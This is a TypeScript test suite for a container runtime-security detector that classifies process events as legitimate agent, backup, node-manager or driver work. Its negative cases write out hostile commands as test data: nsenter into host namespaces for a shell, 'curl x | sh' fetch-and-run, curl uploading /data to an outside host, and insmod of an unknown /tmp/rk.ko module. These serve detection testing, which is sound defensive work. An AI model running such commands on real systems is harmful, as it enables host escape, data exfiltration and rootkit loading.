import { factContext, factsFromFile } from '@tidewaiter/facts';
import { observe } from '@tidewaiter/sensors';

import { recordOf } from '../storylines/storyline.js';
import { FileWriters } from './file-writers.js';
import { IssuedKeys } from './issued-keys.js';
import { OwnObjects } from './own-objects.js';
import { type Work, works } from './own-work.js';
import { PodOrigins } from './pod-origins.js';
import { ProcessTree } from './process-tree.js';

const digest = `sha256:${'d'.repeat(64)}`;
const programs = [
  ...['/bin/sh', '/usr/bin/agentd', '/usr/bin/nsenter', '/usr/sbin/modprobe', '/usr/bin/node', '/sbin/apk'],
  ...[
    '/usr/bin/restic',
    '/usr/bin/aws',
    '/usr/bin/curl',
    '/usr/sbin/insmod',
    '/usr/bin/ld',
    '/opt/drivers/net.ko',
    '/usr/bin/python3',
    '/app/mirrors.py',
  ],
];

interface Start {
  command: string;
  parent?: string;
  init?: boolean;
  image?: object;
  work?: Work;
  /** Program that wrote the files of the command. */
  writtenBy?: string;
  /** Identity that changed the workload before, with its user agent. */
  changedBy?: [string, string];
  kind?: string;
  /** File that it writes, in an event of its own. */
  writes?: string;
  namespace?: string;
}

/** Whether a process that starts like this does the work of its container. */
function isExplained({
  command,
  parent = '/usr/bin/containerd-shim-runc-v2',
  init = true,
  image = {},
  work = 'own-work',
  writtenBy,
  changedBy,
  kind = 'Deployment',
  writes,
  namespace = 'shop',
}: Start): boolean {
  const container = { id: `containerd://${'c'.repeat(64)}`, name: 'main', image: { id: `r.example/agent@${digest}` } };
  const place = {
    pod: { namespace, name: 'agent-0', container, workload: 'agent', workload_kind: kind },
    docker: 'c'.repeat(31),
    in_init_tree: init,
  };
  const named = (text: string, id: string) => {
    const [binary = ''] = text.split(' ', 1);
    const start_time = '2026-04-01T10:00:00Z';
    return { exec_id: id, pid: 1, uid: 0, cwd: '/', binary, arguments: text.slice(binary.length + 1), start_time };
  };
  const process = { ...named(command, 'child'), ...place, parent_exec_id: 'parent' };
  const at = '2026-04-01T10:00:00Z';
  const both = { process, parent: named(parent, 'parent') };
  const write = { function_name: 'security_file_permission', args: [{ file_arg: { path: writes } }, { int_arg: 2 }] };
  const about = writes === undefined ? { process_exec: both } : { process_kprobe: { ...both, ...write } };
  const event = { ...about, node_name: 'n', time: at };
  const observation = observe(recordOf({ id: '1', at, source: 'tetragon', event } as never, 'c'));
  const files = Object.fromEntries(programs.map((path) => [path, { sha256: 'a'.repeat(64), package: 'agent' }]));
  const known = { repository: 'r.example/agent', tag: '1', digest, files, packages: [], ...image };
  const facts = factContext({
    ...factsFromFile({ format: 'tidewaiter-storyline-facts/1', cluster: 'c', images: { [digest]: known } }),
  });
  const tree = new ProcessTree();
  const found = tree.note(observation);
  const [writers, origins] = [new FileWriters(), new PodOrigins()];
  if (writtenBy !== undefined) {
    const path = command.slice(command.lastIndexOf(' ') + 1);
    writers.note({ ...observation, file: { path, access: 'write', to: null } as never }, [writtenBy]);
  }
  const controller = 'system:serviceaccount:kube-system:daemon-set-controller';
  const requests = [
    ...(changedBy ? [[...changedBy, 'daemonsets', 'agent'] as const] : []),
    ...(kind === 'DaemonSet' ? [[controller, 'kube-controller-manager/v1.33', 'pods', 'agent-0'] as const] : []),
  ];
  for (const [username, userAgent, resource, name] of requests) {
    const objectRef = { resource, namespace, name };
    const asked = {
      kind: 'Event',
      stage: 'ResponseComplete',
      verb: 'create',
      user: { username },
      userAgent,
      objectRef,
    };
    const answer = { sourceIPs: ['10.0.0.9'], responseStatus: { code: 201 } };
    origins.note(
      observe(recordOf({ id: '0', at, source: 'kubernetes-audit', event: { ...asked, ...answer } }, 'c')),
      facts,
    );
  }
  return works[work]({
    observation,
    process: found,
    tree,
    writers,
    origins,
    objects: new OwnObjects(),
    issuedKeys: new IssuedKeys(),
    facts,
  });
}

describe('works', () => {
  it.each([
    ['the declared command', { command: '/usr/bin/nsenter --mount=/proc/1/ns/mnt -- iscsiadm -m node' }],
    ['a declared shell command', { command: '/bin/sh -c "nsenter -t 1 -m pgrep iscsid"' }],
    ['what the entry script starts', { command: '/sbin/apk add socat', parent: '/bin/sh /entrypoint.sh' }],
    ['what an agent starts itself', { command: '/usr/sbin/modprobe ip_vs', parent: '/usr/bin/agentd --all' }],
    [
      'a command after the copy of the runtime',
      { command: '/usr/sbin/modprobe ip_vs', parent: '/memfd:runc_cloned:/proc/self/exe (deleted) init' },
    ],
    ['a file that the declared command writes', { command: '/usr/bin/agentd', writes: '/host/etc/agent.conf' }],
    ['a script of the image that starts the container', { command: '/usr/bin/python3 /app/mirrors.py --all' }],
    ['an agent that ran before it was watched', { command: '/usr/sbin/modprobe ip_vs', parent: '/opt/agent/run' }],
  ])('explains %s', (_what, start) => {
    expect(isExplained(start)).toBe(true);
  });

  it.each([
    ['a process that exec started', { command: '/usr/bin/nsenter -t 1 -m ls', init: false }],
    ['a shell on the host', { command: '/usr/bin/nsenter -t 1 -m -- bash' }],
    ['a download by the agent', { command: '/usr/bin/nsenter -t 1 -m -- bash -c "curl x | sh"' }],
    ['what a server starts', { command: '/usr/sbin/modprobe ip_vs', parent: '/usr/bin/node /app.js' }],
    ['what a program in a temporary folder starts', { command: '/usr/sbin/modprobe x', parent: '/tmp/agentd' }],
    ['a file that exec writes', { command: '/usr/bin/agentd', writes: '/host/etc/agent.conf', init: false }],
    ['a script that is not in the image', { command: '/usr/bin/python3 /data/mirrors.py' }],
    ['a program that is not in the image', { command: '/usr/bin/other' }],
  ])('does not explain %s', (_what, start) => {
    expect(isExplained(start)).toBe(false);
  });

  const shell = '/bin/sh -c "pg_dump orders | gzip | aws s3 cp - s3://b/x"';

  it.each([
    ['a backup program', { command: '/usr/bin/restic backup /data' }],
    ['the rotation of backups', { command: '/usr/bin/restic forget --prune', parent: '/bin/sh /entrypoint.sh' }],
    ['the upload of a dump', { command: '/usr/bin/aws s3 cp - s3://b/x', parent: shell }],
  ])('explains %s as a backup', (_what, start) => {
    expect(isExplained({ ...start, work: 'backup' })).toBe(true);
  });

  it.each([
    ['a backup that exec started', { command: '/usr/bin/restic backup /data', init: false }],
    ['a backup program that was brought in', { command: '/tmp/restic backup /data' }],
    ['a backup that a server starts', { command: '/usr/bin/restic backup /', parent: '/usr/bin/node /app.js' }],
    ['an upload without a dump', { command: '/usr/bin/aws s3 cp /data s3://b/x', parent: '/bin/sh /entrypoint.sh' }],
    ['an upload by a downloader', { command: '/usr/bin/curl -T /data https://x.example', parent: shell }],
    [
      'a workload that an application has changed',
      {
        command: '/usr/bin/restic backup /data',
        changedBy: ['system:serviceaccount:shop:cart', 'curl/8'] as [string, string],
      },
    ],
  ])('does not explain %s as a backup', (_what, start) => {
    expect(isExplained({ ...start, work: 'backup' })).toBe(false);
  });

  const manager = {
    command: '/usr/bin/agentd start --root-mount=/rootfs',
    parent: '/usr/bin/conmon -b /run',
    work: 'node-manager',
    kind: 'DaemonSet',
    namespace: 'openshift-machine-config-operator',
    writes: '/rootfs/etc/systemd/system/kubens.service',
    image: { signature: { signed: false } },
  } as const;

  it('explains what the DaemonSet of a distribution does to its nodes', () => {
    expect(isExplained(manager)).toBe(true);
  });

  it.each([
    ['a shell of such a DaemonSet', { command: '/bin/sh /x.sh' }],
    ['a shell that exec opened', { init: false }],
    ['a program of a node without CRI-O', { parent: '/usr/bin/containerd-shim-runc-v2' }],
    ['a program that the image lacks', { command: '/usr/bin/dropped start' }],
    ['the DaemonSet of another namespace', { namespace: 'kube-system' }],
    ['a Deployment', { kind: 'Deployment' }],
    [
      'one that an application has changed',
      { changedBy: ['system:serviceaccount:shop:cart', 'curl/8'] as [string, string] },
    ],
  ])('does not explain %s as the management of a node', (_what, start) => {
    expect(isExplained({ ...manager, ...start })).toBe(false);
  });

  const driver = { work: 'driver', kind: 'DaemonSet', parent: '/usr/bin/agentd --install' } as const;

  it.each([
    ['of the image', { command: '/usr/sbin/insmod /opt/drivers/net.ko' }],
    ['that the agent has put there', { command: '/usr/sbin/insmod /root/.a/net.ko', writtenBy: '/usr/bin/agentd' }],
    ['in a folder of the agent', { command: '/usr/sbin/insmod /root/.a/net.ko' }],
    ['that it has linked', { command: '/usr/sbin/insmod /tmp/build/net.ko', writtenBy: '/usr/bin/ld' }],
  ])('explains a module %s as a driver', (_what, start) => {
    expect(isExplained({ ...driver, ...start })).toBe(true);
  });

  it.each([
    ['of unknown origin in a temporary folder', { command: '/usr/sbin/insmod /tmp/rk.ko' }],
    ['that was downloaded', { command: '/usr/sbin/insmod /root/.a/net.ko', writtenBy: '/usr/bin/curl' }],
    ['that a foreign linker made', { command: '/usr/sbin/insmod /root/.a/net.ko', writtenBy: '/tmp/ld' }],
    ['of an application', { command: '/usr/sbin/insmod /opt/drivers/net.ko', kind: 'Deployment' }],
    ['that exec loads', { command: '/usr/sbin/insmod /opt/drivers/net.ko', init: false }],
    [
      'of a DaemonSet that an application has changed',
      {
        command: '/usr/sbin/insmod /opt/drivers/net.ko',
        changedBy: ['system:serviceaccount:shop:cart', 'curl/8'] as [string, string],
      },
    ],
  ])('does not explain a module %s as a driver', (_what, start) => {
    expect(isExplained({ ...driver, ...start })).toBe(false);
  });
});
